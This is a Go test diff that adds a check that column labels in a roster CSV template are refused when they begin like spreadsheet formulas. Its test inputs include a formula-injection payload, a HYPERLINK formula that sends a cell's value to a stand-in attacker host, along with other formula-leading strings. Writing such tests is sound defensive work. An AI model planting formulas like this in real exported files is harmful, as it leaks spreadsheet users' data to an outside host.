@@ -142,3 +142,15 @@ func TestCheckValues(t *testing.T) {
 		t.Fatalf("an old single value: %v %v", out, errs)
 	}
 }
+
+// TestLabelsAreNoFormulas: a label heads a roster template's column, so one
+// a spreadsheet would run is refused (review: formula in the CSV template).
+func TestLabelsAreNoFormulas(t *testing.T) {
+	for _, label := range []string{`=HYPERLINK("https://evil.example/?"&A2,"Click")`, "+A1", "-x", "@SUM(A1)", "\tx", "＝1"} {
+		var errs fault.Fields
+		CheckCustomFields([]CustomField{{Key: "k", Label: label, Type: FieldText}}, &errs)
+		if len(errs) != 1 || errs[0].Field != "customFields[0].label" {
+			t.Errorf("label %q: %v", label, errs)
+		}
+	}
+}
